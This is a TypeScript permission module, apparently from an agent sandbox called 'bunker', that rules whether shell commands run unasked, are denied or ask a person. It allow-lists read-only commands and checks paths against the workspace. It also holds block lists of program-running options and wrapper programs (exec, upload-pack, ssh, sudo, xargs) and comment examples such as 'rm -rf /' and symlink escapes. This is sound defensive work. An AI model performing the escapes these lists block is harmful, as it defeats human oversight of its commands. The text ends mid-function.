// Decides run_bash commands. The command line is split into its simple
// commands (shell-parse.ts) and every one must be allowed on its own:
// `--allow-run=git` grants `git status && git diff`, not `git status; rm x`.
// A simple command is allowed when its program is granted by name, a rule
// pattern matches it, or it only reads inside the workspace; redirections
// must stay inside the workspace too. Anything uncertain asks.
//
// Path checks resolve symlinks (through the workspace resolver) and expand
// globs, so this module reads the file system; it never writes or runs.
import { existsSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { basename, isAbsolute, join } from "node:path";
import type { Decision, Grants, PathRules } from "./policy.ts";
import { gitConfigRunsPrograms } from "./git-config.ts";
import { isLiteral, parseShell, type ParseResult, type Redirect, type SimpleCommand, type Word } from "./shell-parse.ts";
import { isProtectedPath, isWithin, joinRaw, realpathLoose, resolveFrom } from "./workspace.ts";

export interface RunRules {
  /** Bare flag: every command. */
  all: boolean;
  /** Program names from --allow-run=git,bun. */
  programs: string[];
  /** Rules-file patterns such as `git status` (exactly) or `bun test *` (and any arguments). */
  patterns: string[];
}

// ---- patterns ---------------------------------------------------------------

interface CommandPattern {
  words: string[];
  /** Trailing `*`: any further arguments. */
  prefix: boolean;
}

function parsePattern(pattern: string, forcePrefix = false): CommandPattern | null {
  const words = pattern.trim().split(/\s+/).filter(Boolean);
  let prefix = forcePrefix;
  if (words[words.length - 1] === "*") {
    words.pop();
    prefix = true;
  }
  return words.length > 0 ? { words, prefix } : null;
}

/** Word-for-word: `git status` never matches `git statusx` or `git stat`. */
function matchesPattern(argv: Word[], p: CommandPattern): boolean {
  if (argv.length < p.words.length) return false;
  if (!p.prefix && argv.length !== p.words.length) return false;
  return p.words.every((w, i) => isLiteral(argv[i]!) && argv[i]!.text === w);
}

// ---- read-only commands -----------------------------------------------------

interface ReadOnlySpec {
  /** Non-option arguments name files (checked to be inside the workspace). */
  paths: boolean;
  /** Long options (or single-dash words, for find) that write, run programs or follow links. */
  forbidLong?: string[];
  /** Short option letters with the same problem, also inside clusters (`-rL`). */
  forbidShort?: string;
  /** At most this many non-option arguments (`uniq in out` writes `out`). */
  maxOperands?: number;
  /** Extra test on the arguments (after the program name). */
  check?: (args: Word[]) => boolean;
}

const TEXT: ReadOnlySpec = { paths: false };
const FILES: ReadOnlySpec = { paths: true };
const GIT_READ_SUBCOMMANDS = new Set(["status", "diff", "log", "show", "blame", "ls-files", "rev-parse", "describe", "ls-tree", "grep", "shortlog"]);
const GIT_BRANCH_LIST = new Set(["-a", "-r", "-v", "-vv", "--all", "--remotes", "--list", "--show-current", "--verbose", "--no-color"]);

const SUMS: ReadOnlySpec = { paths: true, forbidShort: "c", forbidLong: ["--check"] }; // -c reads a list of other files
const NO_FILES0: ReadOnlySpec = { paths: true, forbidLong: ["--files0-from"] }; // a list of files from a file or stdin

/** Bash evaluates `name[$(cmd)]` subscripts in `-v` tests and printf -v targets. */
const noSubscripts = (a: Word[]) => !a.some((w) => w.text === "-v" || w.text === "-R" || w.text.includes("["));

const READ_ONLY: Record<string, ReadOnlySpec> = {
  echo: TEXT, pwd: TEXT, true: TEXT, false: TEXT, ":": TEXT, whoami: TEXT, id: TEXT, uname: TEXT,
  basename: TEXT, dirname: TEXT, seq: TEXT, which: TEXT, type: TEXT, nproc: TEXT, printenv: TEXT, sleep: TEXT, tr: TEXT,
  // printf -v sets a variable (PATH, or an array subscript that runs code).
  printf: { paths: false, check: (a) => !a.some((w) => w.text === "-v" || w.text.startsWith("-v")) },
  // -f/--file and -r/--reference read a file named in the argument.
  date: { paths: false, forbidShort: "sfr", forbidLong: ["--set", "--file", "--reference"] },
  hostname: { paths: false, maxOperands: 0 },
  command: { paths: false, check: (a) => a[0]?.text === "-v" || a[0]?.text === "-V" },
  export: { paths: false, check: (a) => a.every((w) => /^[A-Za-z_]\w*(=.*)?$/s.test(w.text) && safeAssignment(w.text.split("=")[0]!)) },
  set: { paths: false, check: (a) => a.every((w) => /^([-+][euxvo]+|pipefail|errexit|nounset|xtrace|verbose|--)$/.test(w.text)) },
  // test only looks at metadata, and its operands are mostly strings.
  test: { paths: false, check: noSubscripts }, "[": { paths: false, check: noSubscripts },
  ls: { paths: true, forbidShort: "L", forbidLong: ["--dereference"] },
  cat: FILES, head: FILES, tail: FILES, nl: FILES, tac: FILES, rev: FILES, od: FILES, hexdump: FILES,
  stat: FILES, realpath: FILES, readlink: FILES, cut: FILES, column: FILES, fold: FILES, expand: FILES,
  unexpand: FILES, strings: FILES, comm: FILES, cmp: FILES, paste: FILES, join: FILES,
  wc: NO_FILES0,
  // -r follows linked directories out of the workspace.
  // -N shows a file on one side only in full, following a link a directory holds.
  diff: { paths: true, forbidShort: "rN", forbidLong: ["--recursive", "--new-file", "--unidirectional-new-file"] },
  // jq modules are files found by name at run time.
  jq: { paths: true, forbidShort: "L", forbidLong: ["--library-path"], check: (a) => !a.some((w) => /\b(import|include)\b/.test(w.text)) },
  md5sum: SUMS, sha1sum: SUMS, sha224sum: SUMS, sha256sum: SUMS, sha384sum: SUMS, sha512sum: SUMS, b2sum: SUMS, cksum: SUMS,
  // -f reads file names from a list (any path on the machine).
  file: { paths: true, forbidShort: "Cf", forbidLong: ["--compile", "--files-from"] },
  // -o and -R write files (-R: 00Tree.html in every directory).
  tree: { paths: true, forbidShort: "olR", forbidLong: ["--fromfile"] },
  du: { paths: true, forbidShort: "L", forbidLong: ["--dereference", "--files0-from"] },
  grep: { paths: true, forbidShort: "R", forbidLong: ["--dereference-recursive"] },
  egrep: { paths: true, forbidShort: "R", forbidLong: ["--dereference-recursive"] },
  fgrep: { paths: true, forbidShort: "R", forbidLong: ["--dereference-recursive"] },
  rg: { paths: true, forbidShort: "Lz", forbidLong: ["--follow", "--pre", "--pre-glob", "--search-zip", "--hostname-bin"] },
  find: {
    paths: true,
    forbidLong: ["-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls", "-follow", "-L", "-files0-from"],
  },
  sort: { paths: true, forbidShort: "oT", forbidLong: ["--output", "--compress-program", "--temporary-directory", "--files0-from"] },
  uniq: { paths: true, maxOperands: 1 },
  xxd: { paths: true, forbidShort: "r", forbidLong: ["-revert"], maxOperands: 1 },
  git: {
    paths: true,
    // --submodule=diff runs a nested repository's own config.
    forbidLong: ["--output", "--ext-diff", "--open-files-in-pager", "--textconv", "--submodule"],
    check: (a) => {
      const sub = a[0];
      if (!sub || !isLiteral(sub)) return false;
      if (sub.text === "branch") return a.slice(1).every((w) => GIT_BRANCH_LIST.has(w.text));
      if (sub.text === "grep" && a.some((w) => /^-[A-Za-z0-9]*O/.test(w.text) && !w.text.startsWith("--"))) return false;
      return GIT_READ_SUBCOMMANDS.has(sub.text);
    },
  },
};

/**
 * Variables a read-only command may set: locale, time zone, colour and size.
 * Anything else (XDG_CONFIG_HOME, PATH, GIT_*…) can change which program or
 * configuration runs. Lower-case names are the shell's own (proxies aside).
 */
export function safeAssignment(name: string): boolean {
  if (/^(LC_\w+|LANG|LANGUAGE|TZ|NO_COLOR|FORCE_COLOR|CLICOLOR(_FORCE)?|COLUMNS|LINES|TERM|GREP_COLORS?|LS_COLORS)$/.test(name)) return true;
  return /^[a-z_][a-z0-9_]*$/.test(name) && !name.includes("proxy");
}

/** Devices a read-only command may write to or read from. */
const SAFE_WRITE_DEVICES = new Set(["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"]);
const SAFE_READ_DEVICES = new Set(["/dev/null", "/dev/stdin", "/dev/fd/0"]);
const MAX_GLOB_MATCHES = 2000;

// ---- judging a command line -------------------------------------------------

interface Judge {
  /** Null when no workspace is known: then no path argument or file redirect passes. */
  root: string | null;
  programs: Set<string>;
  patterns: CommandPattern[];
  grants: Grants | null;
  /** Read-only commands run unasked: only when commands are sandboxed. */
  readOnlyUnasked: boolean;
  /**
   * Session prefixes ("always allow commands starting with `touch`") cover
   * only arguments inside the workspace: the person approved `touch a.txt`,
   * not `touch /tmp/x` nor a link that leads out.
   */
  sessionPatterns?: CommandPattern[];
}

export interface RunPolicyOptions {
  /** Whether read-only commands may run without asking (only when run_bash is sandboxed). Default true. */
  readOnlyUnasked?: boolean;
}

/** Why each simple command that is not allowed is not; empty when all are. */
function judgeLine(parsed: ParseResult, judge: Judge): { cmd: SimpleCommand; why: string }[] {
  const failures: { cmd: SimpleCommand; why: string }[] = [];
  const cwds = judge.root ? possibleDirectories(parsed.commands, judge.root) : [];
  const hasCd = parsed.commands.some((c) => isCd(c));
  const paths = new PathChecker(judge, cwds, hasCd);
  // `{ git log; git status; } > log.txt`: the group's redirection is the granted commands' own.
  const lineHasGrant = parsed.commands.some((c) => isGranted(c, judge));
  for (const cmd of parsed.commands) {
    const why = cmd.argv.length === 0 && lineHasGrant ? redirectsInside(cmd.redirects, paths) : judgeCommand(cmd, judge, paths);
    if (why) failures.push({ cmd, why });
  }
  return failures;
}

function judgeCommand(cmd: SimpleCommand, judge: Judge, paths: PathChecker): string | null {
  const program = cmd.argv[0];
  if (isGrantedByFlags(cmd, judge)) return redirectsInside(cmd.redirects, paths);
  const unsafe = cmd.assignments.find((a) => !safeAssignment(a.name));
  const session = sessionWords(cmd, judge);
  if (session > 0 && !unsafe) {
    // After a `cd` the words are read from a directory the person never saw (`cd .git/hooks && ln -s …`).
    if (paths.hasCd) return "a session prefix does not cover commands in a line that changes directory";
    // Without an OS sandbox nothing backs the word checks up: the prefix covers itself alone.
    if (!judge.readOnlyUnasked && cmd.argv.length > session) return "with no sandbox for commands, a session prefix covers only the words it names";
    return gitConfigProblem(cmd, judge, paths) ?? argumentsInside(cmd, session, paths) ?? redirectsInside(cmd.redirects, paths);
  }
  if (unsafe) return `setting ${unsafe.name} can change which program or configuration runs`;
  if (!program) return redirectsReadOnly(cmd.redirects, paths);
  const name = program.text;
  if (isCd(cmd)) return paths.cdTargetOk(cmd) ? redirectsReadOnly(cmd.redirects, paths) : `\`cd\` may leave the workspace`;
  const spec = READ_ONLY[name];
  if (!spec) {
    // Say what matters most: `rm -rf /` is not only "not granted", it reaches outside.
    const outside = argumentsInside(cmd, 1, paths);
    return `\`${name}\` is not granted${outside ? `, and ${outside.replace(/^`[^`]*` /, "it ")}` : ""}`;
  }
  if (!judge.readOnlyUnasked) return `\`${name}\` only reads, but with no sandbox for commands every command asks`;
  const args = cmd.argv.slice(1);
  const gitProblem = gitConfigProblem(cmd, judge, paths);
  if (gitProblem) return gitProblem;
  if (spec.check && !spec.check(args)) return `\`${name}\` with these arguments is not read-only`;
  let operands = 0;
  let endOfOptions = false;
  for (const w of args) {
    const t = w.text;
    const isOption = !endOfOptions && t.startsWith("-") && t !== "-" && isLiteral(w);
    if (!endOfOptions && t === "--" && isLiteral(w)) {
      endOfOptions = true;
      continue;
    }
    if (isOption) {
      if (forbidden(t, spec)) return `\`${name} ${t}\` can write, run programs or follow links`;
      const eq = t.indexOf("=");
      if (eq >= 0 && spec.paths) {
        // Any value may be a file name (`--file=link`, `--exclude-from=x`): it must resolve inside.
        const value = t.slice(eq + 1);
        if (value !== "" && !paths.readable({ ...w, text: value, tilde: value.startsWith("~") })) {
          return `\`${name}\` reads ${value}, outside the workspace`;
        }
      } else if (/[/~]|\.\./.test(t) && spec.paths) {
        return `the option ${t} may name a path outside the workspace`;
      } else if (spec.paths && attachedPathOutside(t, w, paths)) {
        return `the option ${t} may read ${t.slice(2)}, outside the workspace`;
      }
      continue;
    }
    operands++;
    if (!spec.paths) continue; // free text: `echo *` only lists names
    if (t === "-" && isLiteral(w)) continue; // stdin
    if (!paths.readable(w)) return `\`${name}\` reads ${w.raw}, which is outside the workspace or only known at run time`;
  }
  if (spec.maxOperands !== undefined && operands > spec.maxOperands) return `\`${name}\` with ${operands} operands can write`;
  return redirectsReadOnly(cmd.redirects, paths);
}

function isGranted(cmd: SimpleCommand, judge: Judge): boolean {
  return isGrantedByFlags(cmd, judge) || sessionWords(cmd, judge) > 0;
}

/** Granted by --allow-run or a rules file: any arguments (the sandbox confines what they do). */
function isGrantedByFlags(cmd: SimpleCommand, judge: Judge): boolean {
  const program = cmd.argv[0];
  if (!program) return false;
  return judge.programs.has(program.text) || judge.patterns.some((p) => matchesPattern(cmd.argv, p));
}

/** How many leading words of `cmd` the longest matching session prefix names (0: none matches). */
function sessionWords(cmd: SimpleCommand, judge: Judge): number {
  // The command's own leading words too: a pattern `git` must not cover `git config …`.
  const leading = cmd.argv.slice(0, 3).map((w) => w.text);
  if (!prefixAllowed(leading)) return 0;
  // `git -C . config …`: an option before the subcommand hides which subcommand runs.
  if (SUBCOMMAND_PROGRAMS.has(leading[0] ?? "") && leading[1]?.startsWith("-")) return 0;
  const matching = (judge.sessionPatterns ?? []).filter(
    (p) => matchesPattern(cmd.argv, p) && prefixAllowed(p.words) && (!isScriptProgram(leading[0] ?? "") || isModuleRun(p.words)),
  );
  return Math.max(0, ...matching.map((p) => p.words.length));
}

/**
 * What a session prefix ("always allow `touch`") may be followed by, checked
 * strictly because the model picks it: plain words that resolve inside the
 * workspace (not in .git or .bunker, not through a link out, and not a
 * program's name), plain options (`-la`, `--force`, `--out=file-inside`),
 * and a git commit message. Anything else asks: a path outside (`/tmp/x`,
 * `../x`, `out` linking out), code-like text (`-e '…'`), `name=value`,
 * `host:path`, `@file`, a short option with a value attached (`-tout`,
 * `-Osh`), an option that follows links (`cp -L`, `grep -R`), `-` (a script
 * on stdin), and anything only known at run time.
 */
function argumentsInside(cmd: SimpleCommand, granted: number, paths: PathChecker, programNames = true): string | null {
  const name = cmd.argv[0]?.text ?? "";
  const messages = name === "git" && GIT_MESSAGE_SUBCOMMANDS.has(cmd.argv[1]?.text ?? "");
  let messageNext = false;
  // The words of the prefix itself (`git commit`) are what the person approved.
  for (let i = Math.max(1, granted); i < cmd.argv.length; i++) {
    const w = cmd.argv[i]!;
    const t = w.text;
    const says = (why: string) => `\`${name}\` ${why} (${w.raw})`;
    // A commit message is text, not code: `git commit -m "fix the parser"` (only the one word after a -m).
    if (messageNext) {
      messageNext = false;
      continue;
    }
    if (w.expanded) return says("has an argument only known at run time");
    if (messages && isLiteral(w) && (t === "-m" || t === "-am" || t === "--message")) {
      messageNext = true;
      continue;
    }
    if (messages && t.startsWith("--message=")) continue;
    if (t === "" || t === "--") continue;
    if (t.startsWith("-") && t !== "-" && isLiteral(w)) {
      const problem = optionProblem(name, t, paths, w);
      if (problem) return says(problem);
      continue;
    }
    const problem = plainWordProblem(t, w, paths, programNames) ?? (name === "git" ? null : protectedHolder(w, paths));
    if (problem) return `\`${name}\` ${problem}`;
    const installs = PACKAGE_INSTALLERS.has(`${name} ${cmd.argv[1]?.text ?? ""}`);
    if (programNames && looksRemote(t, paths, installs)) return says("names something that may be fetched from the network");
  }
  return null;
}

/** Why an option may not follow a session prefix, or null. */
function optionProblem(name: string, t: string, paths: PathChecker, w: Word): string | null {
  if ([READ_ONLY[name], SESSION_FORBID[name]].some((spec) => spec && forbidden(t, spec))) {
    return "has an option that can write, run programs, install outside or follow links";
  }
  // Go's flags are single-dash words (`-run`, `-count`): read them as long options.
  if (t.startsWith("--") || (SINGLE_DASH_FLAGS.has(name) && /^-[A-Za-z]{2,}/.test(t))) {
    const eq = t.indexOf("=");
    const flag = eq < 0 ? t : t.slice(0, eq);
    if (!/^--?[A-Za-z0-9][\w-]*$/.test(flag)) return "has an option that is not a plain word";
    if (isRiskyOption(flag)) return "has an option that may run a program, load code or write elsewhere";
    if (eq < 0) return null;
    const problem = plainWordProblem(t.slice(eq + 1), { ...w, text: t.slice(eq + 1), glob: false, tilde: false }, paths);
    return problem ? `has an option whose value ${problem.replace(/^names /, "is ")}` : null;
  }
  // `-la` and the like; a longer cluster may hold a value (`-tout`, `-at/etc`): written apart it can be checked.
  if (!/^-[A-Za-z0-9]{1,3}$/.test(t)) return "has a short option with a value attached (write the value as its own word)";
  if (t.length > 2 && Bun.which(t.slice(2)) !== null) return `has an option that may name a program (${t.slice(2)})`;
  // `-Cl`, `-tl`: the letters after the first may be a value, and name a link out.
  if (attachedPathOutside(t, w, paths, true)) return `has an option whose attached value ${t.slice(2)} leads outside the workspace or into .git/.bunker`;
  return null;
}

/**
 * In `-Cl` or `-fs`, the letters after the first may be the option's value:
 * when they name something that exists, it must be inside (and writable, when
 * `write` is set). A value that names nothing is read as more flags.
 */
function attachedPathOutside(t: string, w: Word, paths: PathChecker, write = false): boolean {
  if (t.startsWith("--") || t.length < 3) return false;
  const value = t.slice(2);
  const word = { ...w, text: value, glob: false, tilde: false };
  if (!paths.cwds.some((cwd) => resolveFrom(cwd, value).exists)) return false;
  return write ? !paths.writable(word) : !paths.readable(word);
}

/**
 * An option naming one of RISKY_OPTION_NAMES as a whole hyphen-separated part
 * (`--upload-pack`, `--use-compress-program`, `-exec`), or any unambiguous start
 * of one (`--upload-p`, `--exe`: git and getopt accept abbreviations).
 */
function isRiskyOption(flag: string): boolean {
  const name = flag.replace(/^--?/, "").toLowerCase();
  if (name.length >= 3 && RISKY_OPTION_NAMES.some((full) => full.startsWith(name))) return true;
  const padded = `-${name}-`;
  return RISKY_OPTION_NAMES.some((risky) => padded.includes(`-${risky}-`));
}

/** Why a word is not a plain file name inside the workspace, or null. */
function plainWordProblem(t: string, w: Word, paths: PathChecker, programNames = true): string | null {
  if (t === "-") return "reads from stdin, where a script could come from";
  if (!(w.glob ? PLAIN_GLOB : PLAIN_WORD).test(t)) {
    return /[:@]/.test(t) ? `names ${w.raw}, which may be a host, a URL or a file to send` : `has an argument that is not a plain word (${w.raw})`;
  }
  if (programNames && !t.includes("/") && Bun.which(t) !== null) return `names a program (${w.raw})`;
  if (!paths.writable(w)) {
    return paths.readable(w) ? `names ${w.raw}, in .git or .bunker (changes there always ask)` : `names ${w.raw}, outside the workspace`;
  }
  // Inside, but a program all the same (`git clone -u ./x.sh`, `--pre ./x.sh`).
  if (programNames && paths.executable(w)) return `names an executable file (${w.raw})`;
  return null;
}

/** The root, or a folder holding .git or .bunker: a program other than git copying onto it or removing it reaches them. */
function protectedHolder(w: Word, paths: PathChecker): string | null {
  return paths.holdsProtected(w) ? `names ${w.raw}, a folder holding .git or .bunker (or the workspace itself)` : null;
}

/** `npm install x` and the like: where the packages come from. */
const PACKAGE_INSTALLERS = new Set(["npm install", "npm i", "npm add", "pnpm add", "pnpm install", "yarn add", "bun add", "bun install", "bun i", "pip install", "pip3 install"]);

/**
 * `github.com/x/y` that is no file here (for any program: `docker build`, `go get`), or for a package
 * installer any `x/y` that is no file here (npm's GitHub shorthand `evil/repo`): fetched from somewhere.
 */
function looksRemote(t: string, paths: PathChecker, installer: boolean): boolean {
  if (!t.includes("/") || t.startsWith("./") || t.startsWith("../")) return false;
  const missing = !paths.cwds.every((cwd) => resolveFrom(cwd, t).exists);
  return missing && (installer || /^[\w-]+\.[a-z]{2,}\//i.test(t));
}

/** A file name, a package or branch name, a number: no spaces, quotes, `$`, `:`, `@`, `=`, nor a leading `~`. */
const PLAIN_WORD = /^[\w.\/+,%-][\w.\/+,%~^-]*$/;
/** The same, with the glob characters an unquoted pattern has (`src/*.ts`). */
const PLAIN_GLOB = /^[\w.\/+,%*?[\]-][\w.\/+,%~^*?[\]-]*$/;

/** Where `-m` is a message (in `git log` or `git diff` it is not: `git diff -m --output=…`). */
const GIT_MESSAGE_SUBCOMMANDS = new Set(["commit", "tag", "merge", "stash", "notes"]);

/**
 * Option names that hand over a program, code or configuration to run (`--upload-pack`,
 * `--pre`, `-exec`, `--config`), or write, read or install somewhere chosen by value
 * (`--output`, `--pathspec-from-file`, `--git-dir`, `--global`).
 */
const RISKY_OPTION_NAMES = [
  "exec", "exec-path", "extcmd", "upload-pack", "receive-pack", "pre", "pre-glob", "program", "command", "cmd", "to-command",
  "rsh", "ssh", "editor", "pager", "shell", "wrapper", "toolexec", "hook", "hooks", "plugin", "plugins", "preload", "require",
  "import", "eval", "interpreter", "loader", "config", "rcfile", "init-file", "setup", "template", "filter", "driver", "helper",
  "proxy", "output", "pathspec-from-file", "file", "reference", "git-dir", "work-tree", "namespace", "super-prefix", "global",
];
/** Programs whose long options take one dash. */
const SINGLE_DASH_FLAGS = new Set(["go"]);

/** Options of programs outside READ_ONLY that a session prefix does not cover: following links, installing outside, running programs. */
const SESSION_FORBID: Record<string, ReadOnlySpec> = {
  cp: { paths: true, forbidLong: ["--dereference"], forbidShort: "LH" },
  npm: { paths: true, forbidLong: ["--global", "--location", "--prefix"], forbidShort: "g" },
  pnpm: { paths: true, forbidLong: ["--global", "--dir"], forbidShort: "gC" },
  yarn: { paths: true, forbidLong: ["--global", "--cwd"] },
  bun: { paths: true, forbidLong: ["--global", "--cwd"], forbidShort: "g" },
  pip: { paths: true, forbidLong: ["--user", "--target", "--prefix", "--root", "--editable"], forbidShort: "te" },
  pip3: { paths: true, forbidLong: ["--user", "--target", "--prefix", "--root", "--editable"], forbidShort: "te" },
  git: { paths: true, forbidShort: "uxcC" },
  make: { paths: true, forbidShort: "CfIo" },
  chmod: { paths: true, forbidShort: "LH", forbidLong: ["--dereference"] },
  chown: { paths: true, forbidShort: "LH", forbidLong: ["--dereference"] },
  chgrp: { paths: true, forbidShort: "LH", forbidLong: ["--dereference"] },
};

/** The repository's own config could make even `git diff` run a program; after a `cd`, a nested repository's too. */
function gitConfigProblem(cmd: SimpleCommand, judge: Judge, paths: PathChecker): string | null {
  if (cmd.argv[0]?.text !== "git" || judge.root === null) return null;
  for (const dir of paths.cwds) {
    const key = gitConfigRunsPrograms(dir);
    if (key) return `this repository's git config sets ${key}, which runs a program`;
  }
  return null;
}

/** Granted commands may read and write files inside the workspace (not .git or .bunker). */
function redirectsInside(redirects: Redirect[], paths: PathChecker): string | null {
  for (const r of redirects) {
    if (!r.target) continue;
    if (r.writes ? !paths.writable(r.target) : !paths.readable(r.target)) {
      return `the redirection to ${r.target.raw} leaves the workspace or touches a protected path`;
    }
  }
  return null;
}

/** Read-only commands may read files inside, and write only to /dev/null and the like. */
function redirectsReadOnly(redirects: Redirect[], paths: PathChecker): string | null {
  for (const r of redirects) {
    if (!r.target) continue;
    if (r.writes) {
      if (!(isLiteral(r.target) && SAFE_WRITE_DEVICES.has(r.target.text))) return `the redirection to ${r.target.raw} writes a file`;
    } else if (!paths.readable(r.target)) {
      return `the redirection from ${r.target.raw} reads outside the workspace`;
    }
  }
  return null;
}

function forbidden(option: string, spec: ReadOnlySpec): boolean {
  const long = spec.forbidLong ?? [];
  const name = option.split("=")[0]!;
  if (long.some((o) => name === o)) return true;
  // getopt_long takes any unambiguous abbreviation: `--compress-prog` is `--compress-program`.
  if (name.startsWith("--") && name.length > 2 && long.some((o) => o.startsWith("--") && o.startsWith(name))) return true;
  if (spec.forbidShort && /^-[A-Za-z0-9]/.test(option) && !option.startsWith("--")) {
    // A cluster of short options (`-rnL`, `-1R`): every letter counts, digits too may
    // come first. (A letter that is really an attached value, `-eR`, asks: harmless.)
    if ([...spec.forbidShort].some((ch) => option.slice(1).includes(ch))) return true;
  }
  return false;
}

/** `cd` and `pushd` both move the shell: paths after them resolve from elsewhere. */
function isCd(cmd: SimpleCommand): boolean {
  const w = cmd.argv[0];
  return (w?.text === "cd" || w?.text === "pushd") && isLiteral(w);
}

/**
 * Every directory the shell could be in when a command runs, given the `cd`s
 * in the line. Over-approximates (a `cd` inside a subshell counts for the
 * rest of the line too), which only makes checks stricter.
 */
function possibleDirectories(commands: SimpleCommand[], root: string): string[] {
  const dirs = new Set([root]);
  for (const cmd of commands) {
    if (!isCd(cmd)) continue;
    const target = cdTarget(cmd);
    if (!target) continue;
    for (const d of [...dirs]) dirs.add(resolveFrom(d, target).real);
  }
  return [...dirs];
}

/** The literal target of `cd DIR`, when it has no `..` and is not `-`. */
function cdTarget(cmd: SimpleCommand): string | null {
  const args = cmd.argv.slice(1).filter((w) => w.text !== "--");
  const w = args[0];
  if (args.length !== 1 || !w || !isLiteral(w) || w.text === "-" || w.text === "") return null;
  if (w.text.split("/").includes("..")) return null;
  return w.text;
}

class PathChecker {
  constructor(
    private readonly judge: Judge,
    /** Every directory a command in the line may run in. */
    readonly cwds: string[],
    readonly hasCd: boolean,
  ) {}

  /** Some way this word resolves is the root or a folder holding .git or .bunker (copying onto it, or removing it, reaches them). */
  holdsProtected(w: Word): boolean {
    const root = this.judge.root;
    if (!root) return true;
    return !this.all(w, (real) => real !== root && !existsSync(join(real, ".git")) && !existsSync(join(real, ".bunker")));
  }

  /** Some way this word resolves is an executable file: a program, however it is named. */
  executable(w: Word): boolean {
    return !this.all(w, (real) => {
      try {
        const st = statSync(real);
        return !(st.isFile() && (st.mode & 0o111) !== 0);
      } catch {
        return true;
      }
    });
  }

  /** Every way this word can resolve is a real path inside the workspace (and not denied). */
  readable(w: Word): boolean {
    if (isLiteral(w) && SAFE_READ_DEVICES.has(w.text)) return true;
    return this.all(w, (real) => !matchesRules(this.judge.grants?.deny.read, real));
  }

  /** Same, for writing: also not under .git or .bunker, and not denied. */
  writable(w: Word): boolean {
    if (isLiteral(w) && SAFE_WRITE_DEVICES.has(w.text)) return true;
    const root = this.judge.root;
    if (!root) return false;
    return this.all(
      w,
      (real) =>
        !isProtectedPath(root, real) && !matchesRules(this.judge.grants?.deny.write, real),
    );
  }

  cdTargetOk(cmd: SimpleCommand): boolean {
    const target = cdTarget(cmd);
    const root = this.judge.root;
    if (!target || !root) return false;
    return this.cwds.every((d) => isWithin(root, resolveFrom(d, target).real));
  }

  private all(w: Word, extra: (real: string) => boolean): boolean {
    const root = this.judge.root;
    if (!root || w.expanded || w.brace) return false;
    let text = w.text;
    if (w.tilde) {
      if (text !== "~" && !text.startsWith("~/")) return false; // ~user
      text = homedir() + text.slice(1); // not join(): that would drop `link/..` as text
    }
    if (text === "" || text.includes("\0")) return false;
    // After a `cd`, `..` could climb from a directory we did not foresee.
    if (this.hasCd && !isAbsolute(text) && text.split("/").includes("..")) return false;
    // `a/../x` where `a` does not exist yet: an earlier command in the line may make `a` a link (`ln -s / a`).
    if (text.split("/").some((part, i, all) => part === ".." && i > 0 && !this.cwds.every((cwd) => resolveFrom(cwd, all.slice(0, i).join("/")).exists))) return false;
    try {
      for (const cwd of this.cwds) {
        const candidates = w.glob ? expandGlob(cwd, text) : [joinRaw(cwd, text)];
        if (!candidates) return false;
        for (const abs of candidates) {
          // bash hands a match named `-R` or `--pre=sh` to the program as an option.
          if (w.glob && basename(abs).startsWith("-")) return false;
          const real = realpathLoose(abs).real;
          if (!isWithin(root, real) || !extra(real)) return false;
        }
      }
      return true;
    } catch {
      return false;
    }
  }
}

/**
 * What a pathname pattern can expand to (plus its fixed directory prefix),
 * or null when that cannot be bounded: a component that could match `..`,
 * or too many matches.
 */
function expandGlob(cwd: string, pattern: string): string[] | null {
  const parts = pattern.split("/");
  const firstGlob = parts.findIndex((p) => /[*?[]/.test(p));
  if (parts.slice(firstGlob).some((p) => p.startsWith(".") && /[*?[]/.test(p))) return null;
  if (parts.slice(firstGlob).includes("..")) return null;
  // The fixed prefix resolved physically (`link/../*` starts where the link leads, then goes up).
  const base = resolveFrom(cwd, parts.slice(0, firstGlob).join("/") || ".").real;
  // bash's default has no globstar: `**` is `*`, one level; that also keeps a scan through links bounded.
  const rest = parts.slice(firstGlob).join("/").replace(/\*\*+/g, "*");
  const out = [base];
  try {
    // As bash does, through linked directories (`d/*/x` reaches d/link/x): every match is then resolved and checked.
    for (const m of new Bun.Glob(rest).scanSync({ cwd: base, onlyFiles: false, dot: false, followSymlinks: true })) {
      out.push(join(base, m));
      if (out.length > MAX_GLOB_MATCHES) return null;
    }
  } catch {
    // A missing directory matches nothing: bash passes the pattern through literally.
  }
  return out;
}

function matchesRules(rules: PathRules | undefined, real: string): boolean {
  if (!rules) return false;
  if (rules.workspace) return true;
  if (rules.paths.some((p) => isWithin(p, real))) return true;
  return rules.globs.some((g) => new Bun.Glob(g).match(real));
}

// ---- deny -------------------------------------------------------------------

/** Programs that run another program named in their arguments. */
const RUNS_ARGUMENTS = new Set([
  "xargs", "sudo", "doas", "su", "watch", "parallel", "flock", "setsid", "stdbuf", "chroot", "unshare", "nsenter",
  "script", "find", "fd", "strace", "ltrace", "busybox", "npx", "bunx", "pnpx", "ssh", "runuser", "chrt", "ionice", "taskset",
]);

function deniedBy(cmd: SimpleCommand, deny: RunRules): string | null {
  const program = cmd.argv[0];
  if (!program) return null;
  const names = new Set(deny.programs);
  const base = basename(program.text);
  if (names.has(program.text) || names.has(base)) return base;
  if (RUNS_ARGUMENTS.has(base)) {
    const hit = cmd.argv.slice(1).find((w) => names.has(basename(w.text)));
    if (hit) return basename(hit.text);
  }
  for (const p of deny.patterns) {
    const pat = parsePattern(p);
    if (pat && matchesPattern(cmd.argv, pat)) return p;
  }
  return null;
}

// ---- public API ---------------------------------------------------------------

export function decideRun(grants: Grants, command: string, root: string, opts: RunPolicyOptions = {}): Decision {
  const deny = grants.deny.run;
  if (deny.all) return { verdict: "deny", reason: "running commands is denied by --deny-run" };
  const parsed = parseShell(command);
  for (const cmd of parsed.commands) {
    const by = deniedBy(cmd, deny);
    if (by) return { verdict: "deny", reason: `running \`${by}\` is denied by --deny-run or a deny rule` };
  }
  const denies = deny.programs.length > 0 || deny.patterns.length > 0;
  if (parsed.uncertain) {
    // A bare --allow-run grants even what we cannot read, unless a denial might be hidden in it.
    if (grants.allow.run.all && !denies) return { verdict: "allow" };
    return { verdict: "ask", reason: `bunker cannot analyse this command line: ${parsed.uncertain}` };
  }
  if (grants.allow.run.all) return { verdict: "allow" };
  const failures = judgeLine(parsed, judgeFor(grants, root, opts));
  if (failures.length === 0) return { verdict: "allow" };
  return { verdict: "ask", reason: failures[0]!.why };
}

function judgeFor(grants: Grants, root: string, opts: RunPolicyOptions = {}): Judge {
  return {
    root,
